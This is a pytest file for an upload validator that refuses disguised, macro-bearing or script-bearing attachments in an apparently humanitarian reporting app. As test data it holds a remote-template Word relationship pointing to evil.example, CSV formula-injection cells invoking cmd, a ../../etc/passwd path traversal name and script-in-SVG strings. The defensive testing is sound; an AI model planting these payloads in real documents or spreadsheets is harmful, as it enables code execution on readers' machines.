"""What a country team may attach is told by the file's bytes, not only its name: each kind's first bytes or
zip structure, UTF-8 text that is no markup, and a name safe to download it as."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest

from cer.services import attachment_files as files
from workstreams.errors import InvalidFields

PDF = b"%PDF-1.4\n1 0 obj\n<<>>\nendobj\ntrailer\n<<>>\n%%EOF\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 20
JPEG = b"\xff\xd8\xff\xe0" + b"\x00" * 20


def zipped(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def ooxml(main_part: str, *more: str) -> bytes:
    return zipped({"[Content_Types].xml": b"<Types/>", main_part: b"<x/>", **dict.fromkeys(more, b"x")})


def opendocument(media_type: str) -> bytes:
    return zipped({"mimetype": media_type.encode(), "content.xml": b"<x/>"})


def refusal(name: str, data: bytes) -> str:
    with pytest.raises(InvalidFields) as refused:
        files.checked_kind(name, data)
    assert [e["field"] for e in refused.value.errors] == ["file"], "the refusal names the field"
    return str(refused.value)


@pytest.mark.parametrize(
    ("name", "data", "media_type"),
    [
        ("plan.pdf", PDF, "application/pdf"),
        ("Photo.JPG", JPEG, "image/jpeg"),
        ("map.png", PNG, "image/png"),
        ("plan.docx", ooxml("word/document.xml"), files.DOCX.media_type),
        ("budget.xlsx", ooxml("xl/workbook.xml"), files.XLSX.media_type),
        ("deck.pptx", ooxml("ppt/presentation.xml"), files.PPTX.media_type),
        ("plan.odt", opendocument("application/vnd.oasis.opendocument.text"), files.ODT.media_type),
        ("budget.ods", opendocument("application/vnd.oasis.opendocument.spreadsheet"), files.ODS.media_type),
        ("people.csv", "\ufeffname,agency\nAmina,UNICEF\nJosé,WFP\n".encode(), "text/csv; charset=utf-8"),
        ("notes.txt", "Réunion du 3 mars\n\tpoints à voir\n".encode(), "text/plain; charset=utf-8"),
    ],
)
def test_each_kind_allowed_is_accepted_when_its_bytes_are_what_its_name_says(
    name: str, data: bytes, media_type: str
) -> None:
    assert files.checked_kind(name, data).media_type == media_type


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("plan.pdf", b"<html><script>alert(1)</script></html>"),  # a web page dressed as a PDF
        ("plan.pdf", PNG),  # a picture named as a PDF
        ("photo.jpg", PNG),
        ("plan.docx", zipped({"word/document.xml": b"<x/>"})),  # a zip, but no Office document
        ("plan.docx", ooxml("xl/workbook.xml")),  # a workbook named as a Word document
        ("plan.docx", PDF),
        ("plan.odt", opendocument("application/vnd.oasis.opendocument.spreadsheet")),
        ("plan.ods", zipped({"mimetype": b"x" * 500})),
        ("plan.xlsx", b"PK\x03\x04 not really a zip"),
    ],
)
def test_a_file_whose_bytes_are_not_what_its_name_says_is_refused_in_words(name: str, data: bytes) -> None:
    assert "its content is not a" in refusal(name, data)


@pytest.mark.parametrize(
    "name", ["page.html", "logo.svg", "run.exe", "macro.docm", "old.doc", "script.js", "noname"]
)
def test_kinds_not_allowed_are_refused_by_their_name_whatever_they_hold(name: str) -> None:
    assert "cannot be attached" in refusal(name, PDF)


def test_an_office_document_with_macros_is_refused() -> None:
    assert "macros" in refusal("plan.docx", ooxml("word/document.xml", "word/vbaProject.bin"))


@pytest.mark.parametrize(
    "text",
    [b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", b"  \n<!doctype html><p>hi"],
)
def test_markup_is_never_accepted_as_text_or_csv(text: bytes) -> None:
    assert "markup" in refusal("notes.txt", text)
    assert "markup" in refusal("table.csv", text)


def test_text_that_is_not_utf8_or_holds_control_characters_is_refused() -> None:
    assert "UTF-8" in refusal("people.csv", "José;WFP\n".encode("latin-1"))
    assert "UTF-8" in refusal("notes.txt", b"one\x00two")


def test_an_empty_file_is_refused() -> None:
    assert "empty" in refusal("plan.pdf", b"")


def test_a_file_past_the_limit_is_refused_naming_the_limit() -> None:
    assert "larger than 10 MB" in refusal("plan.pdf", PDF + b"\x00" * files.MAX_BYTES)
    assert files.checked_kind("plan.pdf", PDF + b"\x00" * (files.MAX_BYTES - len(PDF))) is files.PDF


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("C:\\Users\\amina\\Plan de travail.pdf", "Plan de travail.pdf"),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("a\x00b\r\nc\u202e.pdf", "a b c.pdf"),  # control and bidi characters: spaces, squeezed
        ("..pdf", "attachment.pdf"),
        ("plan.PDF", "plan.PDF"),
        ("Plan 2027 – Malawi.pdf", "Plan 2027 – Malawi.pdf"),
        ("photo.jpeg", "photo.jpeg"),
    ],
)
def test_the_download_name_keeps_the_users_name_without_folders_or_control_characters(
    given: str, kept: str
) -> None:
    assert (
        files.download_name(given, files.checked_kind("x." + given.rsplit(".", 1)[-1], _bytes_for(given)))
        == kept
    )


def _bytes_for(name: str) -> bytes:
    return JPEG if name.lower().endswith((".jpg", ".jpeg")) else PDF


def test_a_long_name_is_cut_to_120_characters_keeping_its_ending() -> None:
    name = files.download_name("x" * 500 + ".pdf", files.PDF)
    assert len(name) == 120 and name.endswith(".pdf")


def test_files_are_kept_under_a_random_name_and_nothing_else_is_ever_read(tmp_path: Path) -> None:
    key = files.new_key()
    path = files.keep(tmp_path, key, PDF)
    assert path == tmp_path / key and path.read_bytes() == PDF
    assert files.new_key() != key
    for bad in ("../cer.db", "plan.pdf", key.upper(), ""):
        with pytest.raises(ValueError):
            files.stored_path(tmp_path, bad)
    files.discard(tmp_path, key)
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    ("name", "media_type", "part"),
    [
        ("plan.odt", files.ODT.media_type, "Basic/Standard/Module1.xml"),
        ("budget.ods", files.ODS.media_type, "Basic/script-lc.xml"),
        ("plan.odt", files.ODT.media_type, "Scripts/python/run.py"),
    ],
)
def test_an_opendocument_file_with_macros_or_scripts_is_refused(
    name: str, media_type: str, part: str
) -> None:
    data = zipped({"mimetype": media_type.encode(), "content.xml": b"<x/>", part: b"x"})
    said = refusal(name, data)
    assert "holds macros" in said and ".odt or .ods" in said


@pytest.mark.parametrize(
    ("name", "main_part", "part"),
    [
        ("plan.docx", "word/document.xml", "word/embeddings/oleObject1.bin"),
        ("budget.xlsx", "xl/workbook.xml", "xl/embeddings/oleObject12.bin"),
        ("plan.docx", "word/document.xml", "word/activeX/activeX1.xml"),
        ("deck.pptx", "ppt/presentation.xml", "ppt/activeX/activeX3.bin"),
    ],
)
def test_an_office_document_with_embedded_programs_is_refused(name: str, main_part: str, part: str) -> None:
    assert "embedded objects or controls (OLE, ActiveX)" in refusal(name, ooxml(main_part, part))


def test_a_word_document_that_fetches_its_template_from_elsewhere_is_refused() -> None:
    """Opening it would fetch a template (possibly with macros) from another address: a known attack."""
    rels = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
        b'2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
        b"</Relationships>"
    )
    data = zipped(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": b"<x/>",
            "word/_rels/settings.xml.rels": rels,
        }
    )
    assert "fetches a template or an object from another address" in refusal("plan.docx", data)
    local = rels.replace(b' TargetMode="External"', b"").replace(b"https://evil.example/t.dotm", b"t.dotx")
    kept = {
        "[Content_Types].xml": b"<Types/>",
        "word/document.xml": b"<x/>",
        "word/_rels/settings.xml.rels": local,
    }
    assert files.checked_kind("plan.docx", zipped(kept)) is files.DOCX


@pytest.mark.parametrize(
    ("text", "row"),
    [
        (b"name,total\nAmina,=1+1\n", 2),
        (b'=HYPERLINK("http://evil.example","click")\n', 1),
        (b"a;b\nc;d\ne;+cmd|' /C calc'!A0\n", 3),
        (b"name,handle\nAmina,@SUM(A1)\n", 2),
        (b"name,note\nAmina,\"-2+3+cmd|' /C calc'!A0\"\n", 2),
        (b"name\tnote\nAmina\t-x\n", 2),
    ],
)
def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_refused_naming_its_row(
    text: bytes, row: int
) -> None:
    """Refused: a cell starting with =, + or @, or with - unless the whole cell is a plain number.

    A plain negative number (-5, -3.25, -1,234) or a phone number (+41 22 917 1234) is data a country team
    keeps in a CSV, so those are accepted. "- followed by a digit" alone would not be enough: Excel runs
    `-2+3+cmd|' /C calc'!A0` as a formula, so a cell starting with - or + must be only digits, spaces,
    separators and an ending % to be kept. The cells are read with `,`, `;` and tab as separators (Excel
    uses the one of the reader's region), so a formula is found whichever the file uses."""
    said = refusal("table.csv", text)
    assert f"Row {row}" in said and "formula" in said


@pytest.mark.parametrize(
    "text",
    [
        b'item,change\nFuel,-5\nRent,-3.25\nStaff,"-1,234"\nShare,-12%\n',
        b"name,phone\nAmina,+41 22 917 1234\n",
        b"a,b\nx - y,email@example.org\n- ,--\n",
    ],
)
def test_negative_numbers_and_phone_numbers_in_a_csv_are_accepted(text: bytes) -> None:
    assert files.checked_kind("table.csv", text) is files.CSV


def test_a_text_file_may_start_a_line_with_a_sign() -> None:
    assert (
        files.checked_kind("notes.txt", b"=== Minutes ===\n- point one\n@amina to follow up\n") is files.TXT
    )
